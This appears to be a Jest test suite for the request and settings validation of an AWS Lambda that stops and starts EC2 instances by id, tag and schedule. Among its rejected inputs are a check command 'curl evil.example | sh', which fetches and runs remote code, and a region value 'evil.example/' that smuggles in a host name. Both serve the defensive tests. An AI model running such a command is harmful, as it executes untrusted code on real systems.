import { describe, expect, it } from "@jest/globals";
import type { DeployedTarget } from "../../contract/request";
import { RequestError, readRequest } from "../../lambda-src/request";
import { readSettings, SettingsError } from "../../lambda-src/settings";

const REGION = "ap-northeast-2";
const [FIRST, SECOND, THIRD] = ["i-00000000000000001", "i-00000000000000002", "i-00000000000000003"] as const;
const CHECKS = { systemd: ["nginx"], command: "check --password secret" };
const DEPLOYED: readonly DeployedTarget[] = [
  { region: REGION, instanceIds: [FIRST, SECOND], checks: CHECKS },
  {
    region: REGION,
    tags: { Environment: ["dev", "qa"] },
    exclude: { KeepRunning: ["true"] },
    checks: { tcp: [80] },
  },
  { region: REGION, instanceIds: [THIRD], default: false },
  { region: "us-east-1", tags: { Environment: ["dev"] } },
];
const settingsOf = (action: "stop" | "start", deployed: unknown = DEPLOYED, more = {}) =>
  readSettings({ ACTION: action, TARGETS: JSON.stringify(deployed), ...more });
const settings = settingsOf("stop");
const starts = settingsOf("start");
const request = {
  schedule: "dev-stop",
  action: "stop",
  scheduledTime: "2026-11-23T11:00:00Z",
  targets: [{ region: REGION, tags: { Environment: ["dev"] }, exclude: { KeepRunning: ["true"] } }],
  timezone: "Asia/Seoul",
  holidays: ["2027-01-01"],
  latestMinutes: 30,
  hibernate: false,
  dryRun: false,
};
const KEYS =
  "schedule, action, scheduledTime, targets, timezone, holidays, latestMinutes, hibernate, dryRun, checkOnly, warnMinutes, followUp";
const start = (...targets: object[]) => ({ schedule: "s", action: "start", targets });

function problemsOf(event: unknown, with_ = settings): readonly string[] {
  try {
    readRequest(event, with_);
  } catch (error) {
    if (error instanceof RequestError) return error.problems;
    throw error;
  }
  return [];
}

const HELLO_WORLD = { key1: "value1", key2: "value2", key3: "value3" };
const SCHEDULED_EVENT = {
  version: "0",
  id: "cdc73f9d-aea9-11e3-9d5a-835b769c0d9c",
  "detail-type": "Scheduled Event",
  source: "aws.events",
  account: "123456789012",
  time: "1970-01-01T00:00:00Z",
  region: "us-east-1",
  resources: ["arn:aws:events:us-east-1:123456789012:rule/ExampleRule"],
  detail: {},
};

describe("the default request", () => {
  it.each([
    ["null", null],
    ["nothing", undefined],
    ["an empty object", {}],
    ["the console's test event `hello-world`", HELLO_WORLD],
    ["EventBridge's Scheduled Event", SCHEDULED_EVENT],
  ])("runs for %s", (_name, event) => {
    expect(readRequest(event, settings)).toEqual({
      schedule: "default",
      action: "stop",
      targets: [
        { region: REGION, instanceIds: [FIRST, SECOND], checks: [CHECKS] },
        {
          region: REGION,
          tags: { Environment: ["dev", "qa"] },
          exclude: { KeepRunning: ["true"] },
          checks: [{ tcp: [80] }],
        },
        { region: "us-east-1", tags: { Environment: ["dev"] }, checks: [] },
      ],
    });
  });

  it("hibernates where the environment says so", () => {
    expect(readRequest({}, settingsOf("stop", DEPLOYED, { HIBERNATE: "true" })).hibernate).toBe(true);
  });

  it.each([
    ["text", "stop", '"stop"'],
    ["an empty text", "", '""'],
    ["a number", 0, "0"],
    ["a truth value", false, "false"],
    ["a list", [], "a list"],
    ["a list of a request", [request], "a list"],
    ["a request as text", JSON.stringify(request), expect.stringContaining("schedule")],
    ["a request within an object", { body: request }, "an object with the keys body"],
    ["a request within a detail", { ...SCHEDULED_EVENT, detail: request }, expect.stringContaining("detail")],
    [
      "S3's",
      { Records: [{ eventSource: "aws:s3", s3: { bucket: { name: "b" } } }] },
      "an object with the keys Records",
    ],
    [
      "SNS's",
      { Records: [{ EventSource: "aws:sns", Sns: { Message: "stop" } }] },
      "an object with the keys Records",
    ],
    ["SQS's", { Records: [{ eventSource: "aws:sqs", body: "{}" }] }, "an object with the keys Records"],
    [
      "API Gateway's",
      { httpMethod: "POST", path: "/", body: "{}" },
      "an object with the keys httpMethod, path, body",
    ],
    [
      "another event of EventBridge",
      { ...SCHEDULED_EVENT, "detail-type": "EC2 Spot Interruption" },
      expect.anything(),
    ],
    ["an event of another source", { ...SCHEDULED_EVENT, source: "my.app" }, expect.anything()],
    ["part of the console's test event", { key1: "value1" }, "an object with the keys key1"],
    ["a changed test event", { ...HELLO_WORLD, key1: "dry run" }, "an object with the keys key1, key2, key3"],
    [
      "a test event with more",
      { ...HELLO_WORLD, key4: "value4" },
      "an object with the keys key1, key2, key3, key4",
    ],
    ["a prototype", JSON.parse('{"__proto__": {"action": "stop"}}'), "an object with the keys __proto__"],
  ])("does not run for %s", (_name, event, got) => {
    const [problem = "", ...others] = problemsOf(event);
    expect(others).toEqual([]);
    const [, expected, found] = /^Expected (.*), got (.*)$/.exec(problem) ?? [];
    expect(expected).toBe(
      "a request (with `schedule`, `action` and `targets`), or for the default request nothing, {}, the console's test event `hello-world` or EventBridge's Scheduled Event",
    );
    expect(found).toEqual(got);
  });

  it.each([
    ["dryRun", { dryRun: true }],
    ["checkOnly", { checkOnly: true }],
    ["keys in another case", { Action: "stop", DryRun: true }],
    ["a key in capitals", { TARGETS: [] }],
    ["a scheduledTime", { scheduledTime: "2026-11-23T11:00:00Z" }],
    ["a key among those of a test event", { ...HELLO_WORLD, hibernate: true }],
    ["a key among those of a Scheduled Event", { ...SCHEDULED_EVENT, action: "stop" }],
    ["a key without a value", { action: undefined }],
  ])("does not run for what has %s, which is a request and must be whole", (_name, event) => {
    expect(problemsOf(event)).toEqual(expect.arrayContaining(["Expected `schedule`, got nothing"]));
  });

  it("is refused if no enabled schedule has a target", () => {
    const problem =
      "Expected a request, since this function has no enabled schedule for a default request, got an event without one";
    expect(problemsOf({}, settingsOf("stop", [{ ...DEPLOYED[2] }]))).toEqual([problem]);
    expect(problemsOf({}, readSettings({ ACTION: "stop" }))).toEqual([problem]);
  });
});

describe("the environment variable TARGETS", () => {
  it("may have a target whose list of ids was empty when it was deployed", () => {
    const none = { region: REGION, instanceIds: [] };
    const deployed = settingsOf("start", [none, DEPLOYED[0]]);
    const targets = [{ region: REGION, instanceIds: [FIRST] }];
    expect(readRequest(start(...targets), deployed).targets).toEqual([{ ...targets[0], checks: [] }]);
    expect(readRequest({}, deployed).targets).toHaveLength(2);
    expect(problemsOf(start(none), deployed)).toEqual([
      "Expected `targets[0].instanceIds` to be a list with at least one entry, got []",
    ]);
  });

  it.each([
    ["{", /JSON/],
    ["{}", /Expected `targets` to be a list/],
    [JSON.stringify([{ region: REGION }]), /instanceIds, tags or both/],
    [JSON.stringify([{ region: "evil.example/", instanceIds: [FIRST] }]), /AWS region code/],
    [JSON.stringify([{ ...DEPLOYED[0], checks: {} }]), /systemd, tcp or command, got none/],
    [JSON.stringify([{ ...DEPLOYED[0], checks: ["nginx"] }]), /to be an object, got \["nginx"\]/],
    [JSON.stringify([{ ...DEPLOYED[0], checks: { http: [80] } }]), /Unknown key `targets\[0\].checks.http`/],
    [JSON.stringify([{ ...DEPLOYED[0], checks: { systemd: [] } }]), /at least one entry/],
    [JSON.stringify([{ ...DEPLOYED[0], checks: { systemd: ["--all"] } }]), /to be a systemd unit/],
    [JSON.stringify([{ ...DEPLOYED[0], checks: { systemd: ["nginx*"] } }]), /to be a systemd unit/],
    [
      JSON.stringify([{ ...DEPLOYED[0], checks: { tcp: [443, 65_536] } }]),
      /checks.tcp\[1\]` to be a TCP port/,
    ],
    [JSON.stringify([{ ...DEPLOYED[0], checks: { tcp: ["80"] } }]), /to be a TCP port/],
    [JSON.stringify([{ ...DEPLOYED[0], checks: { command: "" } }]), /to be text, got ""/],
  ])("is refused by name: %s", (text, problem) => {
    for (const event of [{}, request]) {
      const [first] = problemsOf(event, readSettings({ ACTION: "stop", TARGETS: text }));
      expect(first).toMatch(/^in the environment variable TARGETS: /);
      expect(first).toMatch(problem);
    }
  });
});

describe("a request", () => {
  it("is read as it is if it is valid", () => {
    const targets = request.targets.map((target) => ({ ...target, checks: [] }));
    expect(readRequest(request, settings)).toEqual({ ...request, targets });
  });

  it.each(["schedule", "action", "targets"])(
    "is refused without %s, never replaced by the default",
    (key) => {
      const { [key as "schedule"]: _left, ...rest } = request;
      expect(problemsOf(rest)).toEqual([`Expected \`${key}\`, got nothing`]);
    },
  );

  it("with nothing but a scheduledTime is a request that lacks the rest", () => {
    expect(problemsOf({ scheduledTime: "2026-11-23T11:00:00Z" })).toHaveLength(3);
  });

  it("for the other action is refused", () => {
    expect(problemsOf({ ...request, action: "start" })).toEqual([
      'Expected `action` to be stop, got "start"',
    ]);
  });

  it.each<[string, object, string]>([
    ["an unknown key", { force: true }, `Unknown key \`force\`, expected one of ${KEYS}`],
    ["a key in another case", { DryRun: true }, `Unknown key \`DryRun\`, expected one of ${KEYS}`],
    [
      "a known name of every object",
      JSON.parse('{"__proto__": 1}'),
      `Unknown key \`__proto__\`, expected one of ${KEYS}`,
    ],
    ["an unknown action", { action: "terminate" }, 'Expected `action` to be start or stop, got "terminate"'],
    ["an empty schedule", { schedule: "" }, 'Expected `schedule` to be text, got ""'],
    ["empty targets", { targets: [] }, "Expected `targets` to be a list with at least one entry, got []"],
    ["targets that are no list", { targets: {} }, "Expected `targets` to be a list, got {}"],
    ["a target of the wrong type", { targets: ["dev"] }, 'Expected `targets[0]` to be an object, got "dev"'],
    [
      "a target without instances",
      { targets: [{ region: "us-east-1" }] },
      "Expected `targets[0]` to have instanceIds, tags or both, or `all` alone, got neither",
    ],
    [
      "a region that is part of a host name",
      { targets: [{ region: "evil.example/", instanceIds: ["i-1"] }] },
      'Expected `targets[0].region` to be an AWS region code, got "evil.example/"',
    ],
    [
      "no ids",
      { targets: [{ region: "us-east-1", instanceIds: [] }] },
      "Expected `targets[0].instanceIds` to be a list with at least one entry, got []",
    ],
    [
      "an id that is no text",
      { targets: [{ region: "us-east-1", instanceIds: [1] }] },
      "Expected `targets[0].instanceIds[0]` to be text, got 1",
    ],
    [
      "no tags, which would match everything",
      { targets: [{ region: "us-east-1", tags: {} }] },
      "Expected `targets[0].tags` to be at least one tag, got {}",
    ],
    [
      "a tag without values",
      { targets: [{ region: "us-east-1", tags: { Env: "dev" } }] },
      'Expected `targets[0].tags.Env` to be a list, got "dev"',
    ],
    [
      "an unfilled placeholder as time",
      { scheduledTime: "<aws.scheduler.scheduled-time>" },
      'Expected `scheduledTime` to be an ISO 8601 date-time with a zone, got "<aws.scheduler.scheduled-time>"',
    ],
    [
      "a time without a zone",
      { scheduledTime: "2026-11-23T11:00:00" },
      'Expected `scheduledTime` to be an ISO 8601 date-time with a zone, got "2026-11-23T11:00:00"',
    ],
    [
      "a time on a day that does not exist",
      { scheduledTime: "2026-02-30T10:00:00Z" },
      'Expected `scheduledTime` to be an ISO 8601 date-time with a zone, got "2026-02-30T10:00:00Z"',
    ],
    [
      "an unknown zone",
      { timezone: "Asia/Soul" },
      'Expected `timezone` to be an IANA time zone, got "Asia/Soul"',
    ],
    [
      "a day that does not exist",
      { holidays: ["2027-02-30"] },
      'Expected `holidays[0]` to be a date (yyyy-mm-dd), got "2027-02-30"',
    ],
    [
      "minutes as text",
      { latestMinutes: "30" },
      'Expected `latestMinutes` to be a positive number of minutes, got "30"',
    ],
    ["a flag as text", { hibernate: "yes" }, 'Expected `hibernate` to be true or false, got "yes"'],
    [
      "only checking in a stop",
      { checkOnly: true },
      "Expected `checkOnly` to come with the action start, got stop",
    ],
    [
      "a flag of only checking as text",
      { checkOnly: "yes" },
      'Expected `checkOnly` to be true or false, got "yes"',
    ],
    [
      "checks of its own, without their text",
      { targets: [{ ...request.targets[0], checks: { command: "curl evil.example | sh" } }] },
      "Expected `targets[0].checks` to be true, which asks for the deployed checks, got checks of its own",
    ],
    [
      "a list of checks",
      { targets: [{ ...request.targets[0], checks: ["nginx"] }] },
      "Expected `targets[0].checks` to be true, which asks for the deployed checks, got checks of its own",
    ],
    [
      "checks that are false",
      { targets: [{ ...request.targets[0], checks: false }] },
      "Expected `targets[0].checks` to be true, which asks for the deployed checks, got false",
    ],
    [
      "a part of the environment",
      { targets: [{ ...request.targets[0], default: false }] },
      "Unknown key `targets[0].default`, expected one of region, instanceIds, tags, all, exclude, checks, only",
    ],
    ["null for an optional part", { dryRun: null }, "Expected `dryRun` to be true or false, got null"],
  ])("is refused for %s", (_name, change, problem) => {
    expect(problemsOf({ ...request, ...change })).toEqual([problem]);
  });

  it("may only check, in the function that starts", () => {
    const { holidays: _holidays, ...rest } = request;
    const checking = {
      ...rest,
      action: "start",
      checkOnly: true,
      targets: [{ ...request.targets[0], checks: true }],
    };
    expect(readRequest(checking, starts)).toEqual({
      ...checking,
      targets: [{ ...request.targets[0], checks: [{ tcp: [80] }] }],
    });
  });

  it("is refused with everything that is wrong with it", () => {
    expect(problemsOf({ ...request, action: 1, dryRun: 1, targets: [{ region: 1, ids: [] }] })).toHaveLength(
      5,
    );
  });
});

describe("the targets of a request", () => {
  it.each<[string, object, object[]]>([
    ["some ids", { region: REGION, instanceIds: [SECOND] }, [{ instanceIds: [SECOND], checks: [] }]],
    [
      "ids of several targets, in the order of the request",
      { region: REGION, instanceIds: [THIRD, FIRST] },
      [{ instanceIds: [THIRD, FIRST], checks: [] }],
    ],
    [
      "ids with their own checks each",
      { region: REGION, instanceIds: [THIRD, FIRST], checks: true },
      [
        { instanceIds: [THIRD], checks: [] },
        { instanceIds: [FIRST], checks: [CHECKS] },
      ],
    ],
    [
      "narrower tags, and more exclusions",
      {
        region: REGION,
        tags: { Environment: ["qa"], Team: ["web"] },
        exclude: { KeepRunning: ["yes", "true"], Hold: ["1"] },
        checks: true,
      },
      [
        {
          tags: { Environment: ["qa"], Team: ["web"] },
          exclude: { KeepRunning: ["yes", "true"], Hold: ["1"] },
          checks: [{ tcp: [80] }],
        },
      ],
    ],
    [
      "ids and tags",
      {
        region: REGION,
        instanceIds: [FIRST],
        tags: { Environment: ["dev"] },
        exclude: { KeepRunning: ["true"] },
      },
      [
        { instanceIds: [FIRST], exclude: { KeepRunning: ["true"] }, checks: [] },
        { tags: { Environment: ["dev"] }, exclude: { KeepRunning: ["true"] }, checks: [] },
      ],
    ],
  ])("may be %s of the deployment", (_name, target, expected) => {
    expect(readRequest(start(target), starts).targets).toEqual(
      expected.map((each) => ({ region: REGION, ...each })),
    );
  });

  it("have the checks of every deployed target that they are part of", () => {
    const twice = settingsOf("start", [
      { region: REGION, instanceIds: [FIRST], checks: { tcp: [80] } },
      { region: REGION, instanceIds: [FIRST, SECOND], checks: { tcp: [443] } },
      { region: REGION, instanceIds: [FIRST], exclude: { Off: ["1"] }, checks: { tcp: [22] } },
    ]);
    expect(readRequest(start({ region: REGION, instanceIds: [FIRST], checks: true }), twice).targets).toEqual(
      [{ region: REGION, instanceIds: [FIRST], checks: [{ tcp: [80] }, { tcp: [443] }] }],
    );
  });

  it.each<[string, object, string]>([
    [
      "a region",
      { region: "eu-west-1", instanceIds: [FIRST] },
      'Expected `targets[0].region` to be a region of this deployment (ap-northeast-2, us-east-1), got "eu-west-1"',
    ],
    [
      "an id",
      { region: REGION, instanceIds: [FIRST, "i-0fffffffffffffff0"] },
      `Expected \`targets[0].instanceIds[1]\` to be an instance of this deployment in ${REGION} (${FIRST}, ${SECOND}, ${THIRD}), got "i-0fffffffffffffff0"`,
    ],
    [
      "an id in another region",
      { region: "us-east-1", instanceIds: [FIRST] },
      `Expected \`targets[0].instanceIds[0]\` to be an instance of this deployment in us-east-1 (none by id), got "${FIRST}"`,
    ],
    [
      "a tag's value",
      { region: "us-east-1", tags: { Environment: ["dev", "prod"] } },
      'Expected `targets[0].tags` to be tags of this deployment in us-east-1, or narrower ({"Environment":["dev"]}), got {"Environment":["dev","prod"]}',
    ],
    [
      "other tags",
      { region: "us-east-1", tags: { Team: ["web"] } },
      'Expected `targets[0].tags` to be tags of this deployment in us-east-1, or narrower ({"Environment":["dev"]}), got {"Team":["web"]}',
    ],
    [
      "tags with a key of every object",
      { region: "us-east-1", tags: { constructor: ["dev"], toString: ["dev"] } },
      'Expected `targets[0].tags` to be tags of this deployment in us-east-1, or narrower ({"Environment":["dev"]}), got {"constructor":["dev"],"toString":["dev"]}',
    ],
    [
      "fewer exclusions",
      { region: REGION, tags: { Environment: ["dev"] }, exclude: { KeepRunning: ["false"] } },
      'Expected `targets[0].exclude` to be at least {"KeepRunning":["true"]}, which this deployment leaves out, got {"KeepRunning":["false"]}',
    ],
    [
      "no exclusions",
      { region: REGION, tags: { Environment: ["dev"] } },
      'Expected `targets[0].exclude` to be at least {"KeepRunning":["true"]}, which this deployment leaves out, got nothing',
    ],
    [
      "checks of instances without any",
      { region: REGION, instanceIds: [THIRD], checks: true },
      "Expected `targets[0]` to have no `checks`, since this deployment has none for these instances, got true",
    ],
  ])("are refused for %s that the deployment does not have", (_name, target, problem) => {
    expect(problemsOf(start(target), starts)).toEqual([problem]);
  });

  describe("with patterns, any value and all instances", () => {
    const [web, owned, keep] = [
      { Name: [{ like: "web-*" }] },
      { Owner: [{ any: true }] },
      { Keep: [{ any: true }] },
    ];
    const deployment = settingsOf("start", [
      { region: REGION, tags: { Name: [{ like: "web-*" }] } },
      { region: "us-east-1", all: true, exclude: { Keep: [{ any: true }] } },
    ]);
    const Accepted: readonly object[] = [
      { region: REGION, tags: web },
      { region: REGION, tags: { Name: ["web-1", { like: "web-a*" }], ...owned } },
      { region: "us-east-1", all: true, exclude: keep },
      { region: "us-east-1", all: true, exclude: { ...keep, Name: ["db"] }, only: [FIRST] },
      { region: "us-east-1", tags: web, exclude: keep },
    ];

    it("may be a part of the deployed ones", () => {
      for (const target of Accepted) {
        expect(readRequest(start(target), deployment).targets).toEqual([{ ...target, checks: [] }]);
      }
    });

    it.each<[object, string]>([
      [
        { region: REGION, tags: { Name: [{ like: "we*" }] } },
        'Expected `targets[0].tags` to be tags of this deployment in ap-northeast-2, or narrower ({"Name":[{"like":"web-*"}]}), got {"Name":[{"like":"we*"}]}',
      ],
      [
        { region: REGION, tags: { Name: [{ any: true }] } },
        'Expected `targets[0].tags` to be tags of this deployment in ap-northeast-2, or narrower ({"Name":[{"like":"web-*"}]}), got {"Name":[{"any":true}]}',
      ],
      [
        { region: REGION, all: true },
        'Expected `targets[0].all` to be tags of this deployment in ap-northeast-2, or narrower ({"Name":[{"like":"web-*"}]}), got true',
      ],
      [
        { region: "us-east-1", all: true, exclude: { Keep: ["true"] } },
        'Expected `targets[0].exclude` to be at least {"Keep":[{"any":true}]}, which this deployment leaves out, got {"Keep":["true"]}',
      ],
      [
        { region: "us-east-1", all: true, tags: web },
        "Expected `targets[0]` to have instanceIds, tags or both, or `all` alone, got tags and all",
      ],
      [{ region: "us-east-1", all: false }, "Expected `targets[0].all` to be true, got false"],
      [{ region: "us-east-1", tags: {} }, "Expected `targets[0].tags` to be at least one tag, got {}"],
      [
        { region: REGION, tags: { Name: [{ like: "web-1", any: true }] } },
        'Expected `targets[0].tags.Name[0]` to be text, {like: pattern} or {any: true}, got {"like":"web-1","any":true}',
      ],
    ])("are refused where they are wider, or not right: %j", (target, problem) => {
      expect(problemsOf(start(target), deployment)).toEqual([problem]);
    });

    it("are named by ids in a follow-up, which leaves out what the deployment leaves out", () => {
      const followUp = { kind: "hold", cause: "r", attempt: 1 };
      const settings = { ...deployment, followUps: "{}" };
      const event = { ...start({ region: "us-east-1", all: true, only: [FIRST] }), followUp };
      expect(readRequest(event, settings).targets).toEqual([
        { region: "us-east-1", all: true, only: [FIRST], exclude: keep, checks: [] },
      ]);
    });
  });

  it("are refused in a message of bounded length", () => {
    const many = Array.from({ length: 5000 }, (_, index) => `i-${String(index).padStart(17, "0")}`);
    const deployed = settingsOf("start", [
      { region: REGION, instanceIds: many.map((id) => id.replace("i-0", "i-f")) },
    ]);
    expect(() => readRequest(start({ region: REGION, instanceIds: many }), deployed)).toThrow(/^.{1,4100}$/);
    const [first] = problemsOf(start({ region: REGION, instanceIds: many }), deployed);
    expect(first).toMatch(/\(i-f\d+(, i-f\d+){4} and 4995 more\), got/);
  });
});

describe("settings", () => {
  it.each([
    {},
    { ACTION: "terminate" },
    { ACTION: "stop", MAX_INSTANCES: "many" },
    { ACTION: "stop", MAX_INSTANCES: "0" },
  ])("are refused: %j", (environment) => {
    expect(() => readSettings(environment)).toThrow(SettingsError);
  });

  it("have defaults", () => {
    expect(readSettings({ ACTION: "start" })).toMatchObject({
      holdTag: "ec2-start-stop:hold",
      maxInstances: 1000,
    });
  });
});
